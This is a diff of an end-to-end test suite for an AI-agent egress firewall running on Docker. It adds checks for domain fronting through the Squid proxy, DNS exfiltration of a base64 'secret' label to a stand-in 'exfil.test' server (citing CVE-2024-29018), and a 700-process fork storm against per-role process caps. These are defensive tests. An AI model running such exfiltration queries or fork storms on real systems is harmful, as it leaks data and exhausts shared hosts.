@@ -3,13 +3,16 @@
  * the networks and containers are created from the synthesized JSON with their real settings
  * (networks, subnets, bridge options, internal flag, addresses, users, capabilities, read-only
  * roots, tmpfs, uploads, limits, env); only the images are stand-ins made locally: busybox-static
- * for the agents, Debian's Squid for the proxy. From inside each agent: its own proxy works for
+ * for the agents, and for the proxy image the stack builds (images/egress-proxy: Debian 12's
+ * squid-openssl) one made from this host's squid-openssl, the same Debian package. A resolver on
+ * the namespace's loopback recurses to a stand-in authoritative server for `exfil.test`. From inside each agent: its own proxy works for
  * its own hosts, and other roles' agents, the proxy's other listeners and the host are out of reach.
  *
  * The one change to what is synthesized: the proxy's squid.conf gets a `hosts_file` line (and the
  * file) so that test names resolve to the stand-in upstream inside the namespace.
  */
-import { mkdtempSync, rmSync } from "node:fs";
+import { spawn, spawnSync, type ChildProcess } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -21,13 +24,16 @@ import type { FirewallPlan } from "../../src/plan/plan";
 import { synthesize } from "../support/synth";
 import { App } from "cdktf";
 import { busyboxRoot, DockerEngine, squidRoot } from "./support/docker-engine";
-import { replayContainer, replayNetworks } from "./support/docker-replay";
-import { connectRequest, probeFrom, type Probe } from "./support/docker-probe";
+import { replayBuiltImages, replayContainer, replayNetworks } from "./support/docker-replay";
+import { connectRequest, printfBytes, probeFrom, type Probe } from "./support/docker-probe";
+import { clientHello } from "./support/client-hello";
 import { NetAgent } from "./support/net-agent-client";
 import { missingPrerequisites, skipLoudly } from "./support/prerequisites";
 import { planOf } from "../../src/plan/firewall-spec";
+import { PROXY_IMAGE_DIR } from "../../src/plan/proxy-image";
+import { packageRoot } from "../../src/terraform/package-files";
 
-const SKIP = skipLoudly("Docker confinement e2e", missingPrerequisites(["ip", "unshare", "dockerd", "docker", "containerd", "runc", "squid", "busybox", "tar", "iptables"], { namespaces: true }));
+const SKIP = skipLoudly("Docker confinement e2e", missingPrerequisites(["ip", "unshare", "dockerd", "docker", "containerd", "runc", "squid", "busybox", "tar", "iptables", "dnsmasq"], { namespaces: true }));
 
 /** The seed fleet plus a second research agent, to show what agents of one role share. */
 const SPEC: FirewallSpecProps = (() => {
@@ -46,6 +52,17 @@ const HOST_BANNER = "host-service";
 const AGENT_PORT = 8080;
 const agentBanner = (name: string) => `agent-${name}`;
 
+/**
+ * DNS as many hosts offer it: a resolver on the host's loopback (dnsmasq at 127.0.0.53, where
+ * systemd-resolved listens), named by the daemon's resolv.conf, recursing for `exfil.test` to a
+ * stand-in authoritative server (dnsmasq too), which logs every name it is asked for. Engines
+ * before 26 forward a container's queries to such a loopback resolver from the host's namespace,
+ * `internal` network or not (CVE-2024-29018).
+ */
+const RESOLVER = "127.0.0.53";
+const AUTHORITY = "203.0.113.54";
+const DNSMASQ = ["--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", "--port=53", "--pid-file", "--user=root", "--log-queries"];
+
 const AGENT_IMAGE = "rapidclaw-test/busybox";
 const PROXY_IMAGE = "rapidclaw-test/squid";
 
@@ -54,16 +71,28 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   let netAgent: NetAgent | undefined;
   let imageDir: string | undefined;
   let plan: FirewallPlan;
+  let builtImages: string[] = [];
+  const dnsServers: ChildProcess[] = [];
+  const dnsLogDir = mkdtempSync(join(tmpdir(), "rapidclaw-dns-"));
+  const dnsLog = (name: string) => (existsSync(join(dnsLogDir, name)) ? readFileSync(join(dnsLogDir, name), "utf8") : "");
   // eslint-disable-next-line @typescript-eslint/no-explicit-any
   let doc: Record<string, any>;
   const addressOf = new Map<string, string>();
+  const hellos = new Map<string, Buffer>();
+  const hello = (name: string) => printfBytes(hellos.get(name) as Buffer);
 
   beforeAll(async () => {
+    for (const name of ["api.anthropic.com", "arxiv.org", "example.org"]) hellos.set(name, await clientHello(name));
     const stack = new RapidClawStack(new App(), "agent-firewall", SPEC);
     plan = planOf(stack.spec);
     doc = synthesize(stack).doc;
 
-    engine = await DockerEngine.start("rc-docker");
+    engine = await DockerEngine.start("rc-docker", { resolvConf: `nameserver ${RESOLVER}\n` });
+    engine.ns.addAddress(AUTHORITY);
+    dnsServers.push(
+      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "authority.log")}`, `--listen-address=${AUTHORITY}`, "--address=/exfil.test/203.0.113.99"], { stdio: "ignore" }),
+      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "resolver.log")}`, `--listen-address=${RESOLVER}`, `--server=/exfil.test/${AUTHORITY}`], { stdio: "ignore" }),
+    );
     console.info(`Docker confinement e2e: Docker Engine ${engine.version()} in namespace ${engine.ns.name}`);
     engine.ns.addAddress(UPSTREAM);
     netAgent = await NetAgent.start(engine.ns);
@@ -74,6 +103,7 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
     engine.importImage(busyboxRoot(imageDir), AGENT_IMAGE);
     engine.importImage(squidRoot(imageDir), PROXY_IMAGE);
 
+    builtImages = replayBuiltImages(engine, doc, PROXY_IMAGE);
     replayNetworks(engine, doc);
     // eslint-disable-next-line @typescript-eslint/no-explicit-any
     const containers = Object.values<Record<string, any>>(doc.resource.docker_container);
@@ -83,10 +113,11 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
     replayContainer(engine, doc, {
       ...proxy,
       upload: [
+        ...proxy.upload.filter((u: unknown) => u !== conf),
         { ...conf, content: `${conf.content}hosts_file /etc/squid/hosts\n` },
         { file: "/etc/squid/hosts", content: hosts, permissions: "0644" },
       ],
-    }, { image: PROXY_IMAGE });
+    }, { image: builtImages[0] });
     // The agents (named after themselves); the firewall's own proxy-events and its Redis are not replayed here.
     const agents = containers.filter((c) => c !== proxy && !c.name.startsWith("rapidclaw-"));
     for (const agent of agents) {
@@ -100,6 +131,8 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   });
 
   afterAll(async () => {
+    for (const server of dnsServers) server.kill();
+    rmSync(dnsLogDir, { recursive: true, force: true });
     await netAgent?.stop();
     await engine?.stop();
     if (imageDir) rmSync(imageDir, { recursive: true, force: true });
@@ -108,6 +141,25 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   const agentsOf = (role: string) => plan.agents.filter((a) => a.role === role);
   const roleOf = (name: string) => plan.roles.find((r) => r.name === name)!;
   const agentAddress = (name: string) => addressOf.get(`${name}@${roleOf(plan.agents.find((a) => a.name === name)!.role).docker!.networkName}`)!;
+
+  it("runs the proxy image the stack builds: Debian 12's squid-openssl, the Squid the other suites run", () => {
+    // The stack builds one image, the proxy's, from images/egress-proxy: Debian 12 with squid-openssl.
+    expect(builtImages).toEqual(["rapidclaw-egress-proxy:squid-openssl"]);
+    const dockerfile = readFileSync(join(packageRoot(), PROXY_IMAGE_DIR, "Dockerfile"), "utf8");
+    expect(dockerfile).toMatch(/^FROM debian:bookworm-slim$/m);
+    expect(dockerfile).toMatch(/install -y --no-install-recommends squid-openssl /);
+    // Its stand-in is this host's squid-openssl, from Debian 12 too: the same package and version.
+    expect(readFileSync("/etc/os-release", "utf8")).toMatch(/^VERSION_CODENAME=bookworm$/m);
+    const owner = spawnSync("dpkg-query", ["-S", "/usr/sbin/squid"], { encoding: "utf8" }).stdout;
+    expect(owner).toMatch(/^squid-openssl: /);
+    const version = spawnSync("dpkg-query", ["-W", "-f", "${Version}", "squid-openssl"], { encoding: "utf8" }).stdout;
+    expect(version).toMatch(/^5\.7-/);
+    // What the proxy container runs: Squid 5.7 built with OpenSSL.
+    const squid = engine!.docker(["run", "--rm", "--entrypoint", "squid", builtImages[0], "-v"]).stdout;
+    expect(squid).toMatch(/^Squid Cache: Version 5\.7$/m);
+    expect(squid).toContain("'--with-openssl'");
+    console.info(`Docker confinement e2e: the proxy runs squid-openssl ${version} (${/Version (\S+)/.exec(squid)?.[1]}, --with-openssl)`);
+  });
 
   it("keeps the host's addresses off the agent bridges", () => {
     for (const role of plan.roles) {
@@ -135,7 +187,8 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
     for (const agent of plan.agents) {
       const script = `id -u; ulimit -u; head -c 1 ${AGENT_PROFILE_PATH}; echo; touch ${AGENT_PROFILE_PATH} 2>/dev/null || echo profile-read-only; touch /x 2>/dev/null || echo root-read-only`;
       const out = engine!.docker(["exec", agent.name, "sh", "-c", script]).stdout.trim().split("\n");
-      expect(out, agent.name).toEqual(["10001", "512", "{", "profile-read-only", "root-read-only"]);
+      // The role's own uid (the nproc limit counts per uid): agent.user is "<uid>:<uid>".
+      expect(out, agent.name).toEqual([agent.user.split(":")[0], "512", "{", "profile-read-only", "root-read-only"]);
     }
   });
 
@@ -147,9 +200,10 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
       const proxyEgress = addressOf.get(`rapidclaw-egress-proxy@rapidclaw-egress`) as string;
       const [agent, ...peers] = agentsOf(roleName);
       const probes: Probe[] = [
-        { id: "own-proxy-model-host", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("api.anthropic.com") },
-        { id: "own-proxy-arxiv", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("arxiv.org") },
-        { id: "own-proxy-unlisted", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("example.org") },
+        { id: "own-proxy-model-host", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("api.anthropic.com"), then: hello("api.anthropic.com") },
+        { id: "own-proxy-arxiv", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("arxiv.org"), then: hello("arxiv.org") },
+        { id: "own-proxy-unlisted", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("example.org"), then: hello("example.org") },
+        { id: "own-proxy-fronted", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("api.anthropic.com"), then: hello("example.org") },
         { id: "other-proxy-listener", host: other.docker!.proxyAddress, port: other.proxyPort, send: connectRequest("api.anthropic.com") },
         { id: "proxy-egress-address", host: proxyEgress, port: role.proxyPort, send: connectRequest("api.anthropic.com") },
         { id: "upstream-directly", host: UPSTREAM, port: 443 },
@@ -165,8 +219,12 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
 
       expect(seen.get("own-proxy-model-host"), context).toMatch(new RegExp(`^HTTP/1\\.1 200 .*${UPSTREAM_BANNER}`));
       if (role.allowedHosts.length > 0) expect(seen.get("own-proxy-arxiv"), context).toMatch(new RegExp(`^HTTP/1\\.1 200 .*${UPSTREAM_BANNER}`));
-      else expect(seen.get("own-proxy-arxiv"), context).toMatch(/^HTTP\/1\.1 403 /);
-      expect(seen.get("own-proxy-unlisted"), context).toMatch(/^HTTP\/1\.1 403 /);
+      // Refused CONNECTs are closed unanswered (decided before any answer, so no TLS is terminated).
+      else expect(seen.get("own-proxy-arxiv"), context).toBe("");
+      expect(seen.get("own-proxy-unlisted"), context).toBe("");
+      // An allowed CONNECT whose ClientHello names another host is answered 200, then closed: nothing from upstream.
+      expect(seen.get("own-proxy-fronted"), context).toMatch(/^HTTP\/1\.1 200 [^]*$/);
+      expect(seen.get("own-proxy-fronted"), context).not.toContain(UPSTREAM_BANNER);
       for (const id of ["other-proxy-listener", "proxy-egress-address", "upstream-directly", "host-via-own-gateway", "host-via-other-gateway", "host-via-egress-gateway", "host-loopback-address"]) {
         expect(seen.get(id), `${id}\n${context}`).toBe("");
       }
@@ -181,6 +239,27 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
     expect(await netAgent!.connectTcp({ host: UPSTREAM, port: 443, timeoutMs: 2_000 })).toMatchObject({ outcome: "data", data: UPSTREAM_BANNER });
   });
 
+  it("an agent's DNS query for <data>.exfil.test never reaches the authoritative server, which the engine's resolver reaches for a container left with the default", async () => {
+    const asked = async (label: string) => {
+      await new Promise((r) => setTimeout(r, 1_000));
+      return dnsLog("authority.log").includes(label);
+    };
+    // The channel is real here: from the host, and from a container on a role's internal network
+    // left with the engine's default resolver (CVE-2024-29018: what today's agents would get without `dns`).
+    engine!.ns.run("busybox", ["nslookup", "from-host.exfil.test", RESOLVER], { allowFailure: true });
+    expect(await asked("from-host.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
+    const network = roleOf("research_agent").docker!.networkName;
+    engine!.docker(["run", "--rm", "--network", network, AGENT_IMAGE, "nslookup", "default-resolver.exfil.test"], { allowFailure: true });
+    expect(await asked("default-resolver.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
+    // The agents, as synthesized: through the embedded DNS, and straight at the resolver.
+    for (const agent of plan.agents) {
+      const label = `c2VjcmV0-${agent.name}`;
+      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}.exfil.test`], { allowFailure: true });
+      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}-direct.exfil.test`, RESOLVER], { allowFailure: true });
+      expect(await asked(label), `${agent.name}: ${dnsLog("authority.log")}`).toBe(false);
+    }
+  });
+
   it("logs every decision as a JSON line naming the role of the listener reached", () => {
     const lines = engine!.docker(["logs", "rapidclaw-egress-proxy"]).stdout.split("\n").filter(Boolean);
     const entries = lines.map((line) => JSON.parse(line) as { role: string; client: string; host: string; event: string });
@@ -190,5 +269,20 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
       expect(agent, JSON.stringify(entry)).toBeDefined();
       expect(entry.role, JSON.stringify(entry)).toBe(agent!.role);
     }
+  });
+
+  // Last: the storm's processes live until their sleep ends.
+  it("a fork storm spends its own role's process cap: an agent of the same role cannot start a process, another role's agent can", async () => {
+    const [stormer, peer] = agentsOf("research_agent");
+    const [other] = agentsOf("customer_support");
+    const uid = stormer.user.split(":")[0];
+    expect(other.user.split(":")[0]).not.toBe(uid);
+    engine!.docker(["exec", "-d", stormer.name, "sh", "-c", "i=0; while [ $i -lt 700 ]; do sleep 40 & i=$((i+1)); done; sleep 40"]);
+    const count = () => spawnSync("ps", ["-o", "pid=", "-u", uid], { encoding: "utf8" }).stdout.split("\n").filter(Boolean).length;
+    for (let i = 0; i < 40 && count() < 500; i++) await new Promise((r) => setTimeout(r, 250));
+    expect(count(), "processes of the role's uid: the storm reached the cap (512)").toBeGreaterThanOrEqual(500);
+    const starts = (agent: string) => engine!.docker(["exec", agent, "sh", "-c", "sleep 0 & wait && echo started"], { allowFailure: true }).stdout.trim();
+    expect(starts(peer.name), `${peer.name} shares ${stormer.name}'s uid and cap`).not.toBe("started");
+    expect(starts(other.name), `${other.name} has a uid and cap of its own`).toBe("started");
   });
 });
